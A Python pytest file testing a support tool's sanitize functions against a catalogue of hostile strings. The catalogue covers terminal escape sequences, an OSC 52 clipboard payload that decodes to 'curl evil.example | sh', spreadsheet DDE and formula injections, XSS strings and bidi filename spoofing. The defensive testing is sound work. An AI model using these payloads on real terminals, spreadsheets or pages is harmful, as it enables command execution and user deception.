"""Every function in supportcli.sanitize against one catalogue of hostile strings.

Terminal escapes (7-bit and 8-bit CSI/OSC/DCS), bells, backspaces, carriage-return
overwrites, bidi overrides, invisible characters, rich markup, spreadsheet formulas, markdown
and HTML: the output has no control characters left, rich shows markup literally, CSV cells
cannot start a formula and HTML is escaped — without losing the visible text.
"""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from rich.console import Console
from rich.text import Text

from supportcli import sanitize

# name -> (hostile input, what clean_text must leave of it)
CATALOGUE: dict[str, tuple[str, str]] = {
    "ansi csi colour": ("\x1b[31;1mRED\x1b[0m alert", "RED alert"),
    "ansi cursor and erase": ("safe\x1b[2K\x1b[1Gfake prompt $ ", "safefake prompt $ "),
    "osc 8 hyperlink (ST)": ("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"),
    "osc 8 hyperlink (BEL)": ("\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07", "click"),
    "osc 52 clipboard": ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied", "copied"),
    "osc 0 window title": ("\x1b]0;you have been owned\x07title", "title"),
    "osc unterminated": ("before\x1b]0;title without end", "before"),
    "dcs string": ("\x1bP+q544e\x1b\\after", "after"),
    "8-bit csi": ("\x9b31mred\x9b0m", "red"),
    "8-bit osc hyperlink": ("\x9d8;;http://evil.example\x9clink\x9d8;;\x9c", "link"),
    "bel": ("ding\x07dong", "dingdong"),
    "backspace overstrike": ("paid\x08\x08\x08\x08unpaid", "paidunpaid"),
    "carriage return overwrite": ("refund ok\rrefund DENIED", "refund ok\nrefund DENIED"),
    "nul del and c1": ("a\x00b\x7fc\x85d", "abcd"),
    "bidi override": ("invoice_\u202efdp.exe", "invoice_fdp.exe"),
    "bidi isolates and marks": ("\u2067abc\u2069\u200f\u061c", "abc"),
    "zero width": ("pay\u200bpal\u200c\u200d\u2060\ufeff", "paypal"),
    "tag characters": ("hi\U000e0041\U000e0042\U000e007f", "hi"),
    "line separators": ("one\u2028two\u2029three", "one\ntwo\nthree"),
    "rich markup": ("[bold red]x[/]", "[bold red]x[/]"),
    "rich link": (
        "[link=http://evil.example]click[/link]",
        "[link=http://evil.example]click[/link]",
    ),
    "rich escape trick": ("\\[bold]not bold\\", "\\[bold]not bold\\"),
    "csv hyperlink": (
        '=HYPERLINK("http://evil.example","click")',
        '=HYPERLINK("http://evil.example","click")',
    ),
    "csv dde": ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    "csv minus": ("-2+3", "-2+3"),
    "csv at": ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "csv leading tab": ("\t=1+1", "\t=1+1"),
    "csv leading cr": ("\r=1+1", "\n=1+1"),
    "csv leading space": ("  =1+1", "  =1+1"),
    "markdown pipes and code": ("a | b | `rm -rf` **bold** [x](http://e.example)",) * 2,
    "html script": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    "html attribute": ('x" onload="alert(1)', 'x" onload="alert(1)'),
    "lone surrogate": ("bad\udcffbyte", "badbyte"),
}
IDS = sorted(CATALOGUE)
# anything that is not text: C0 (but tab/newline), DEL, C1, invisible/bidi, surrogates
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
    "\ud800-\udfff\U000e0000-\U000e007f\u2028\u2029]"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(params=IDS, ids=IDS)
def hostile(request: pytest.FixtureRequest) -> tuple[str, str]:
    return CATALOGUE[request.param]


def recording_console() -> Console:
    return Console(
        record=True,
        width=300,
        file=io.StringIO(),
        force_terminal=True,
        color_system="truecolor",
        emoji=False,
        highlight=False,
    )


def raw_output(console: Console) -> str:
    file = console.file
    assert isinstance(file, io.StringIO)
    return file.getvalue()


def only_rich_sgr(output: str) -> bool:
    """True when the only control sequences in the output are rich's own colour codes."""
    return not CONTROL.search(re.sub(r"\x1b\[[0-9;]*m", "", output).replace("\n", ""))


# --- clean_text ----------------------------------------------------------------------------


def test_clean_text_strips_controls_and_keeps_the_visible_text(hostile):
    value, visible = hostile
    cleaned = sanitize.clean_text(value)
    assert cleaned == visible
    assert not CONTROL.search(cleaned)


def test_clean_text_keeps_ordinary_text():
    text = "Grüße, Zoë!\n\tOrder #10234 – 24,90 € 😀 [not markup] <b>"
    assert sanitize.clean_text(text) == text
    assert sanitize.clean_text("") == ""


# --- one line: one_line, for_terminal, for_log ---------------------------------------------


@pytest.mark.parametrize("fold", [sanitize.one_line, sanitize.for_terminal, sanitize.for_log])
def test_one_line_functions_leave_no_control_or_line_break(hostile, fold):
    value, visible = hostile
    out = fold(value)
    assert not CONTROL.search(out)
    assert "\n" not in out and "\t" not in out and "\r" not in out
    expected = " ".join(visible.split())
    assert out == (expected if fold is not sanitize.for_log else sanitize.one_line(expected, 80))


def test_one_line_width():
    assert sanitize.one_line("abcdefghij", 5) == "abcd…"
    assert sanitize.one_line("abc", 5) == "abc"
    assert sanitize.for_log("x" * 200).endswith("…") and len(sanitize.for_log("x" * 200)) == 80
    assert sanitize.for_terminal("  spaced \n\n out  ") == "spaced out"


def test_for_terminal_as_rich_text_renders_literally(hostile):
    value, visible = hostile
    console = recording_console()
    console.print(Text(sanitize.for_terminal(value)))
    assert console.export_text().rstrip("\n") == " ".join(visible.split())
    output = raw_output(console)
    assert "\x1b]" not in output and "\x07" not in output  # no OSC: no link, title, clipboard
    assert only_rich_sgr(output)


# --- for_markup ----------------------------------------------------------------------------


def test_for_markup_is_shown_literally_inside_markup(hostile):
    value, visible = hostile
    console = recording_console()
    console.print(f"[bold]{sanitize.for_markup(value)}[/bold] [dim]end[/dim]")
    assert console.export_text().rstrip("\n") == visible.expandtabs(8) + " end"
    output = raw_output(console)
    assert "\x1b]" not in output and "\x07" not in output
    assert only_rich_sgr(output)


def test_unescaped_markup_would_be_interpreted():
    """The catalogue's markup is live when passed raw, so the literal renderings above mean
    something."""
    console = recording_console()
    console.print("[bold red]x[/] [link=http://evil.example]click[/link]")
    assert console.export_text().rstrip("\n") == "x click"
    assert "\x1b]8;" in raw_output(console)


# --- for_csv -------------------------------------------------------------------------------


def test_for_csv_cells_never_start_a_formula(hostile):
    value, visible = hostile
    cell = sanitize.for_csv(value)
    assert isinstance(cell, str)
    assert not CONTROL.search(cell)
    if visible.lstrip().startswith(FORMULA) or visible.startswith(FORMULA):
        assert cell == "'" + visible
    else:
        assert cell == visible


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example","x")',
        "+cmd",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "|calc",
        "%0A=1",
    ],
)
def test_for_csv_dangerous_cells_survive_a_csv_round_trip_quoted(value):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([sanitize.for_csv(value), "next"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[0].startswith("'")
    assert row[1] == "next"


@pytest.mark.parametrize("value", ["Where is my order?", "10234", "a-b", "", "Zoë", "x=1"])
def test_for_csv_leaves_ordinary_cells_alone(value):
    assert sanitize.for_csv(value) == value


@pytest.mark.parametrize("value", [5, 1.5, None, True])
def test_for_csv_leaves_non_strings_alone(value):
    assert sanitize.for_csv(value) is value


# --- for_markdown --------------------------------------------------------------------------


def test_for_markdown_is_one_safe_table_cell(hostile):
    value, _ = hostile
    cell = sanitize.for_markdown(value)
    assert not CONTROL.search(cell)
    assert "\n" not in cell
    assert not re.search(r"(?<!\\)[|`<>\[\]*_]", cell)  # every markdown/HTML char escaped
    assert "<script" not in cell


def test_for_markdown_examples():
    assert sanitize.for_markdown("a | b") == "a \\| b"
    assert sanitize.for_markdown("`code`") == "\\`code\\`"
    assert sanitize.for_markdown("<script>") == "&lt;script&gt;"
    assert sanitize.for_markdown("x" * 50, 10) == "x" * 9 + "…"


def test_markdown_table_keeps_its_columns():
    row = "| " + " | ".join(sanitize.for_markdown(v) for v, _ in CATALOGUE.values()) + " |"
    unescaped_pipes = re.findall(r"(?<!\\)\|", row)
    assert len(unescaped_pipes) == len(CATALOGUE) + 1


# --- for_html ------------------------------------------------------------------------------


def test_for_html_escapes_and_loses_nothing(hostile):
    value, visible = hostile
    out = sanitize.for_html(value)
    assert not CONTROL.search(out)
    assert not re.search(r"[<>\"']", out)
    assert html.unescape(out) == visible


def test_for_html_examples():
    assert sanitize.for_html("<script>alert(1)</script>") == (
        "&lt;script&gt;alert(1)&lt;/script&gt;"
    )
    assert sanitize.for_html('x" onload="y') == "x&quot; onload=&quot;y"
    assert sanitize.for_html("Tom & Jerry's") == "Tom &amp; Jerry&#x27;s"
